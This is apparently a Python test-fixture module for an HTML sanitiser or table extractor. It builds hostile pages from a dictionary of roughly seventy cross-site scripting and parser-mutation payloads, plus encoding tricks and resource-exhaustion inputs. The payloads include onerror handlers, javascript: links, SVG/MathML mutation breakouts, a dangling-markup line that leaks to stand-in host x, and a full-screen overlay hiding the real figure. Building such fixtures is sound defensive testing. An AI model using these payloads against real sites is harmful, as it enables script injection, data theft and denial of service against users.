"""Archived pages that want to run, reach out, cover, move or overwhelm; each also holds one honest figure.

Classics of cross-site scripting and of mutation by a second parser, written for a browser of today and for
those that sites of these years still aimed at. The host that they want to be asked is x (REACHED),
and a script of theirs says alert(1).
"""

from collections.abc import Iterator

REACHED = "http://x/"
FIGURE = "7"
TABLE = f"<table><tr><td>规章</td><td>{FIGURE}</td></tr></table>"
PLACE = "html:t1/r1/c2"

SNIPPETS = {
    "script": "<script>alert(1)</script>",
    "script-elsewhere": '<script src="//x/a.js"></script>',
    "script-in-capitals": "<ScRiPt\n>alert(1)</sCrIpT foo>",
    "script-cut-in-two": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-never-ended": "<script>alert(1)//",
    "handler-of-image": '<img src="//x/a.png" onerror="alert(1)">',
    "handler-without-quotes": "<img src=x onerror=alert(1)>",
    "handler-behind-slash": "<img/src=x/onerror=alert(1)//>",
    "handler-on-focus": '<p tabindex=1 autofocus onfocus="alert(1)">x</p>',
    "handler-on-toggle": '<details open ontoggle="alert(1)">x</details>',
    "handler-of-animation": '<style>@keyframes x{}</style><b style="animation:x" onanimationend="alert(1)">',
    "handler-in-body": '<body onload="alert(1)" background="//x/b.png">',
    "link-script": '<a id=x href="javascript:alert(1)">click</a>',
    "link-script-in-references": '<a href="&#106;&#x61;vascript&colon;alert(1)">click</a>',
    "link-script-with-tabs": '<a href="java\tscript\n:alert(1)">click</a>',
    "link-data-page": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    "link-ping": '<a href="//x/" ping="//x/ping" target="_top">click</a>',
    "image-data-svg": (
        '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/>">'
    ),
    "image-set": '<img srcset="//x/1.png 1x, //x/2.png 2x" lowsrc="//x/3.png" dynsrc="//x/4">',
    "picture-sources": '<picture><source srcset="//x/s.png"><img src="//x/t.png"></picture>',
    "media": '<video src="//x/v" poster="//x/p.png" autoplay></video><audio src="//x/a" autoplay>',
    "svg-script": "<svg><script>alert(1)</script><circle r=9 onload=alert(1) /></svg>",
    "svg-animate": '<svg><a><animate attributeName=href values="javascript:alert(1)"/>x</a></svg>',
    "svg-use": '<svg><use href="//x/x.svg#a"/><image href="//x/i.png"/></svg>',
    "svg-foreign-object": '<svg><foreignObject><iframe src="//x/"></iframe></foreignObject></svg>',
    "math-link": '<math href="javascript:alert(1)"><mtext>x</mtext></math>',
    "math-action": '<math><maction actiontype="statusline" href="javascript:alert(1)">x</maction></math>',
    "style-import": '<style>@import url("//x/a.css");</style><style>@import "//x/b.css"</style>',
    "style-address": "<style>td{background:url(//x/t.png)}</style>",
    "style-font": "<style>@font-face{font-family:f;src:url(//x/f.woff)}*{font-family:f}</style>",
    "style-expression": '<p style="width:expression(alert(1));behavior:url(//x/x.htc)">x</p>',
    "style-of-element": '<p style="background-image:url(//x/p.png);text-align:left">x</p>',
    "style-escaped": '<p style="b\\61 ckground:\\75 rl(//x/e.png)">x</p>',
    "style-image-set": '<p style="text-decoration:image-set(url(//x/e.png) 1x)">x</p>',
    "style-that-covers": '<div style="position:fixed;inset:0;z-index:9;background:#fff">9 999</div>',
    "style-that-moves-the-cell": "<style>td{display:none}td+td::after{content:'9'}</style>",
    "style-sheet-link": '<link rel=stylesheet href="//x/s.css"><link rel=preload as=image href="//x/q">',
    "prefetch": '<link rel="dns-prefetch preconnect prefetch prerender icon manifest" href="//x/n">',
    "refresh": '<meta http-equiv=refresh content="0;url=//x/r">',
    "refresh-script": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "policy-of-its-own": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "base": '<base href="//x/" target="_top"><img src="relative.png">',
    "form": '<form action="//x/" id=f><input name=a value=1><input type=image src="//x/i.png"></form>',
    "form-button": '<button form=f formaction="javascript:alert(1)">x</button><isindex action="//x">',
    "object": '<object data="//x/o.swf" codebase="//x"><param name=movie value="//x/m"></object>',
    "object-page": '<object data="data:text/html,<script>alert(1)</script>" type="text/html"></object>',
    "embed": '<embed src="//x/e.swf" allowscriptaccess=always><applet code=X codebase="//x"></applet>',
    "frame": '<iframe src="//x/"></iframe><frameset><frame src="//x/g"></frameset>',
    "frame-script": '<iframe src="javascript:alert(1)"></iframe>',
    "portal": '<portal src="//x/p"></portal><fencedframe src="//x/q"></fencedframe>',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "noscript-style": "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
    "template": "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
    "shadow-root": '<div><template shadowrootmode=open><img src="//x/s" onerror=alert(1)></template></div>',
    "comment-that-ends-early": "<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)>",
    "conditional-comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "character-data": "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>",
    "processing-instruction": "<?xml-stylesheet href='//x/x.xsl'?><?php><img src=x onerror=alert(1)>",
    "title-trick": "<svg><title><style></title></style><img src=x onerror=alert(1)></style></title></svg>",
    "textarea-trick": "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "xmp-and-plaintext": "<xmp></xmp><img src=x onerror=alert(1)></xmp>",
    "mutation-math-table": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">'
    ),
    "mutation-svg-style": '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    "mutation-form-math": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
    ),
    "mutation-select": "<select><template><style></select><img src=x onerror=alert(1)></style></template>",
    "mutation-attribute": (
        '<p title="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;" alt=`><img src=x onerror=alert(1)>`>'
    ),
    "unclosed-attribute": '<img src="x" alt="onerror=alert(1) ',
    "dangling-markup": "<img src='//x/?",
    "an-outline-of-its-own": '<p id="cell-1" class="cell-1 chosen box">9</p><b id=cell-1>8</b>',
    "numbers-of-its-own": '<table><tr><td data-cell-number="1">9<td data-cell-number="0">8</table>',
    "names-that-shadow": "<img name=getElementById><form id=documentElement><input name=body></form>",
    "right-to-left": "<bdo dir=rtl>&#8238;123&#8236;</bdo><p dir=rtl>&#x202e;</p>",
    "custom-element": '<x-a onclick=alert(1) is="x-b"></x-a><p contenteditable popover style="x:y">x</p>',
    "slot-and-dialog": "<dialog open><slot onslotchange=alert(1)></slot></dialog>",
    "vml": '<v:imagedata src="//x/v.png" o:title=x /><o:p onclick=alert(1)>x</o:p>',
}


def _bytes() -> Iterator[tuple[str, bytes]]:
    for name, snippet in SNIPPETS.items():
        # Before the table and behind it: what a page leaves open it leaves open around the figure.
        yield name, f"<!DOCTYPE html><html><body>{TABLE}{snippet}</body></html>".encode()
        if "<table" not in snippet:
            yield f"{name}-before", f"<html><head></head><body>{snippet}{TABLE}".encode()
        yield f"{name}-in-cell", f"<table><tr><td>{snippet}规章</td><td>{FIGURE}</td></tr></table>".encode()
    yield "utf-7", b"<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-" + TABLE.encode()
    yield "utf-16", f"<script>alert(1)</script>{TABLE}".encode("utf-16")
    yield "utf-16-without-mark", f"<script>alert(1)</script>{TABLE}".encode("utf-16-le")
    yield "utf-32", f"<script>alert(1)</script>{TABLE}".encode("utf-32")
    yield "gb18030", f"<meta charset=iso-2022-jp><img src=x onerror=alert(1)>{TABLE}".encode("gb18030")
    yield "half-a-character", b"<p title='\xe8\"><script>alert(1)</script>'>\xb0" + TABLE.encode()
    yield "escapes-of-iso-2022", b"<p title='\x1b$B'><img src=x onerror=alert(1)>\x1b(B" + TABLE.encode()
    yield "nul-bytes", f"<scr\0ipt>alert(1)</scr\0ipt><img o\0nerror=alert(1) src=x>{TABLE}".encode()
    yield (
        "controls",
        f"<img\x0bsrc=x\x0conerror=alert(1)><a href='\x01javascript:alert(1)'>x</a>{TABLE}".encode(),
    )
    yield "surrogates", f"<p>&#xD800;&#x110000;&#0;</p>{TABLE}".encode()
    yield "deep", b"<div>" * 9_000 + TABLE.encode()
    yield "deep-inline", b"<b><i>" * 3_000 + TABLE.encode()
    yield "deep-tables", b"<table><tr><td>" * 60 + TABLE.encode()
    yield "copies", b"<font><b><a><p>" * 4_000 + TABLE.encode()
    yield "many-cells", f"<table>{'<tr><td>1<td>2' * 15_000}</table>{TABLE}".encode()
    yield (
        "wide-spans",
        f"{TABLE}<table><tr><td colspan=1000 rowspan=65534>1<td colspan=99999999>2</table>".encode(),
    )
    yield (
        "many-wide-spans",
        f"{TABLE}<table>{'<tr><td rowspan=9999 colspan=1000>1<td>2' * 200}</table>".encode(),
    )
    yield "long-attribute", b"<p title='" + b"a" * 3_000_000 + b"'>x</p>" + TABLE.encode()
    yield "long-text", TABLE.encode() + "字".encode() * 1_500_000
    yield (
        "many-attributes",
        b"<p " + b" ".join(b"a%d=1" % i for i in range(5_000)) + b">x</p>" + TABLE.encode(),
    )


PAGES = dict(_bytes())
